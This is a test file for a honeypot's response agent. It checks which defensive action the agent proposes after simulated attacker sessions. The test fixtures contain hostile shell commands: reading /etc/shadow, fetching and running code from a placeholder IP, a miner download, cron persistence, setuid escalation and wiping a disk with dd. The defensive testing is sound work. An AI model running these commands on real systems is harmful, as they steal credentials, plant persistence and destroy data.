import { readFile } from 'node:fs/promises';
import { DECISION_KINDS, decisionSchema } from '@cerberusmesh/contracts';
import { describe, expect, it } from 'vitest';
import { createAttackMapper } from '../detection/attack-mapper/attack-mapper.ts';
import { emptyFacts, factsAfter, type Story, testEvent, testId } from '../detection/scoring/test-facts.ts';
import { createAgent } from './decide.ts';
import { TRIGGERS } from './triggers.ts';

const mapper = createAttackMapper();
const agent = createAgent();
const closed = testEvent('session.closed', 'closed', { reason: 'client-closed', durationMs: 1_000 });

function decidedAfter(story: Story): string[] {
  return agent.decide(factsAfter(mapper, story), closed).map(({ kind, trigger }) => `${kind} for ${trigger}`);
}

describe('the agent', () => {
  it.each<[string, Story, string[]]>([
    ['only watches a scan', {}, ['monitor for low-score']],
    ['only watches a look around', { login: true, commands: ['uname -a'] }, ['monitor for low-score']],
    ['rotates keys after many failed credentials', { failedCredentials: 5 }, ['rotate_key for credential-attack']],
    ['rotates keys when a guess worked', { failedCredentials: 1, login: true }, ['rotate_key for credential-reuse']],
    [
      'rotates keys when hashes are read',
      { login: true, commands: ['cat /etc/shadow'] },
      ['rotate_key for credential-theft'],
    ],
    [
      'launches a decoy on privilege escalation',
      { login: true, commands: ['chmod u+s /tmp/sh'] },
      ['launch_decoy for escalation-pattern'],
    ],
    [
      'launches a decoy on a scan from inside',
      { login: true, commands: ['nmap 10.0.0.0/24'] },
      ['launch_decoy for escalation-pattern'],
    ],
    [
      'launches a decoy when much together is dangerous and nothing alone says what to do',
      { login: true, commands: ['unset HISTFILE', 'echo "* * * * * /tmp/.x" | crontab -', 'uname -a; ps aux; id'] },
      ['launch_decoy for sustained-threat'],
    ],
    [
      'inserts a trap where code is fetched and run',
      { login: true, commands: ['wget http://192.0.2.9/x; sh x'] },
      ['insert_trap for code-execution'],
    ],
    [
      'calls a person when harm is done',
      { login: true, commands: ['dd if=/dev/zero of=/dev/sda'] },
      ['escalate for impact-stage'],
    ],
  ])('%s', (_, story, expected) => {
    expect(decidedAfter(story)).toEqual(expected);
  });

  it('only watches who scans from outside', () => {
    const facts = factsAfter(mapper, {});
    const scanned = {
      techniqueId: 'T1595.002',
      techniqueName: 'Active Scanning: Vulnerability Scanning',
      tactic: 'reconnaissance' as const,
      tactics: ['reconnaissance' as const],
      confidence: 0.9,
      rule: 'http-scan',
      attackVersion: '18.1',
      stage: 'contact' as const,
      statement: 'GET /.env',
      evidence: [testId('opened')],
      count: 1,
      firstAt: facts.openedAt,
      lastAt: facts.openedAt,
    };
    expect(agent.decide({ ...facts, detections: [scanned] }, closed).map(({ trigger }) => trigger)).toEqual([
      'low-score',
    ]);
  });

  it('waits with watching until something happened', () => {
    const opened = testEvent('session.opened', 'opened', {});
    expect(agent.decide({ ...emptyFacts(), score: 0.02 }, opened)).toEqual([]);
  });

  it('explains a decision completely', () => {
    const facts = factsAfter(mapper, { failedCredentials: 6 });
    expect(agent.decide(facts, closed)).toEqual([
      {
        decisionId: 'e7b6116f-39c8-8c59-ae7f-fa05f05c50ed',
        kind: 'rotate_key',
        trigger: 'credential-attack',
        state: 'proposed',
        confidence: 0.7,
        score: facts.score,
        level: 2,
        stage: 'contact',
        reasons: [{ trigger: 'credential-attack', text: '6 credentials failed in one session; 5 make an attack.' }],
        evidence: [0, 1, 2, 3, 4, 5].map((at) => testId(`failed ${at}`)),
        alternatives: [
          {
            kind: 'monitor',
            text: `Watching alone suits a score of ${facts.score.toFixed(2)}, but this evidence asks for an answer of its own.`,
          },
          {
            kind: 'launch_decoy',
            text: `No privilege escalation, lateral movement or scanning from here; no tunnel asked for; the score of ${facts.score.toFixed(2)} is below 0.6.`,
          },
          { kind: 'insert_trap', text: 'No exploit attempt in a web request; no fetched code run.' },
          { kind: 'escalate', text: `The score of ${facts.score.toFixed(2)} is not above 0.9; no harm done.` },
        ],
        counterfactual: '4 failed credentials instead of 6 would have rotated nothing for this.',
        policy: {
          threshold: 0.7,
          autoAction: false,
          text: 'Proposed: automatic action is off (confidence 0.70 is at or above the threshold 0.7).',
        },
        agentVersion: '2026.3',
        coolDownSeconds: 3_600,
      },
    ]);
  });

  it('explains in numbers why it keeps a dangerous session busy', () => {
    const facts = factsAfter(mapper, {
      login: true,
      commands: ['unset HISTFILE', 'echo "* * * * * /tmp/.x" | crontab -'],
    });
    const score = facts.score.toFixed(2);
    expect(agent.decide(facts, closed)).toEqual([
      {
        decisionId: '78303273-c289-883c-bc81-5a11cee28bc7',
        kind: 'launch_decoy',
        trigger: 'sustained-threat',
        state: 'proposed',
        confidence: facts.score,
        score: facts.score,
        level: 4,
        stage: 'installation',
        reasons: [
          `The score is ${score}, from 0.6 to 0.9, and no single pattern explains it; level 4, stage installation.`,
          'The session reached the stage installation.',
          'persistence: T1053.003 Scheduled Task/Job: Cron.',
          'A login was accepted.',
        ].map((text) => ({ trigger: 'sustained-threat', text })),
        evidence: ['login', 'command 0', 'command 1', 'opened'].map(testId),
        alternatives: [
          { kind: 'monitor', text: `The score of ${score} is not below 0.6.` },
          {
            kind: 'rotate_key',
            text: 'No keys, hashes or passwords read, planted or changed; no failed attempt beside the accepted login; 0 failed credentials of the 5 that make an attack.',
          },
          { kind: 'insert_trap', text: 'No exploit attempt in a web request; no fetched code run.' },
          { kind: 'escalate', text: `The score of ${score} is not above 0.9; no harm done.` },
        ],
        counterfactual: `A score of 0.59 instead of ${score} would have launched no decoy for the score alone.`,
        policy: {
          threshold: 0.7,
          autoAction: false,
          text: `Proposed: automatic action is off (confidence ${score} is at or above the threshold 0.7).`,
        },
        agentVersion: '2026.3',
        coolDownSeconds: 3_600,
      },
    ]);
  });

  it('keeps a session busy for its score only while nothing more specific was decided', () => {
    const facts = factsAfter(mapper, { login: true });
    const decidedAt = (score: number, ...decided: typeof facts.decided) =>
      agent.decide({ ...facts, score, decided }, closed).map(({ trigger }) => trigger);
    const watched = { trigger: 'low-score', kind: 'monitor' } as const;
    expect(decidedAt(0.59)).toEqual(['low-score']);
    expect(decidedAt(0.6)).toEqual(['sustained-threat']);
    expect(decidedAt(0.6, watched)).toEqual(['sustained-threat']);
    expect(decidedAt(0.9, watched)).toEqual(['sustained-threat']);
    expect(decidedAt(0.91, watched)).toEqual(['critical-score']);
    expect(decidedAt(0.7, watched, { trigger: 'credential-attack', kind: 'rotate_key' })).toEqual([]);
    expect(decidedAt(0.7, { trigger: 'sustained-threat', kind: 'launch_decoy' })).toEqual([]);
  });

  it('says of every other kind why it is not that, and names what it decided beside', () => {
    const facts = factsAfter(mapper, {
      failedCredentials: 6,
      login: true,
      commands: ['wget http://192.0.2.9/x; sh x'],
    });
    const decisions = agent.decide(facts, closed);
    for (const { kind, alternatives } of decisions)
      expect(alternatives.map((other) => other.kind)).toEqual(DECISION_KINDS.filter((other) => other !== kind));
    expect(decisions[0]?.alternatives.find(({ kind }) => kind === 'rotate_key')?.text).toBe(
      'Decided on its own, for credential-reuse.',
    );
  });

  it('names a fact that would have changed the outcome, and it would have', () => {
    const stories: Story[] = [
      {},
      { failedCredentials: 9 },
      { failedCredentials: 2, login: true },
      { login: true, commands: ['cat /etc/shadow'] },
      { login: true, commands: ['chmod u+s /tmp/sh'] },
      { login: true, commands: ['wget http://192.0.2.9/x; sh x'] },
      { login: true, commands: ['dd if=/dev/zero of=/dev/sda'] },
      { login: true, commands: ['unset HISTFILE', 'echo "* * * * * /tmp/.x" | crontab -', 'uname -a; ps aux; id'] },
    ];
    const sessions = [
      ...stories.map((story) => factsAfter(mapper, story)),
      { ...factsAfter(mapper, { login: true }), score: 0.95 },
      { ...factsAfter(mapper, { login: true }), tunnelCount: 2 },
    ];
    const fired = new Set<string>();
    for (const facts of sessions) {
      const decided = agent.decide(facts, closed);
      for (const trigger of TRIGGERS) {
        const decision = decided.find((one) => one.trigger === trigger.id);
        if (decision === undefined) continue;
        fired.add(trigger.id);
        const otherwise = trigger.counterfactual(facts);
        expect(decision.counterfactual).toBe(otherwise.text);
        expect(agent.decide(otherwise.facts, closed).map(({ trigger: id }) => id)).not.toContain(trigger.id);
      }
    }
    // Command injection needs a web request; the mapper's own tests have some.
    expect(TRIGGERS.map(({ id }) => id).filter((id) => !fired.has(id))).toEqual(['command-injection']);
  });

  it('has its triggers and their cool-downs on the page about them', async () => {
    const page = await readFile(new URL('../../../../docs/response.md', import.meta.url), 'utf8');
    for (const { id, kind, coolDownSeconds } of TRIGGERS)
      expect(page).toContain(
        `| \`${id}\` | ${kind} | ${coolDownSeconds === 0 ? 'none' : `${coolDownSeconds / 60} min`} |`,
      );
  });

  it('asks nobody for permission to watch', () => {
    const watching = createAgent({ threshold: 1, autoAction: false }).decide(factsAfter(mapper, {}), closed);
    expect(watching.map(({ kind, state, policy }) => ({ kind, state, policy }))).toEqual([
      {
        kind: 'monitor',
        state: 'authorised',
        policy: { threshold: 1, autoAction: false, text: 'Authorised: watching needs no permission.' },
      },
    ]);
  });

  it('authorises only above the threshold and with automatic action on', () => {
    const states = (options: { threshold: number; autoAction: boolean }, failedCredentials: number) =>
      createAgent(options)
        .decide(factsAfter(mapper, { failedCredentials }), closed)
        .map(({ state }) => state);
    expect(states({ threshold: 0.7, autoAction: true }, 8)).toEqual(['authorised']);
    expect(states({ threshold: 0.7, autoAction: true }, 5)).toEqual(['proposed']);
    expect(states({ threshold: 0.7, autoAction: false }, 8)).toEqual(['proposed']);
  });

  it('decides once per session and trigger', () => {
    const facts = factsAfter(mapper, { failedCredentials: 9 });
    const first = agent.decide(facts, closed);
    facts.decided = first.map(({ trigger, kind }) => ({ trigger, kind }));
    expect([first.length, agent.decide(facts, closed)]).toEqual([1, []]);
  });

  it('gives decisions in the shape of the contract, with evidence that the facts hold', () => {
    const facts = factsAfter(mapper, {
      failedCredentials: 30,
      login: true,
      downloads: 2,
      commands: ['cat /etc/shadow', 'wget http://192.0.2.9/xmrig; ./xmrig', 'chmod u+s x'],
    });
    const known = new Set([
      ...Object.values(facts.evidence).flat(),
      ...facts.detections.flatMap(({ evidence }) => evidence),
    ]);
    for (const decision of agent.decide(facts, closed)) {
      decisionSchema.parse(decision);
      expect(decision.evidence.filter((id) => !known.has(id))).toEqual([]);
    }
  });
});
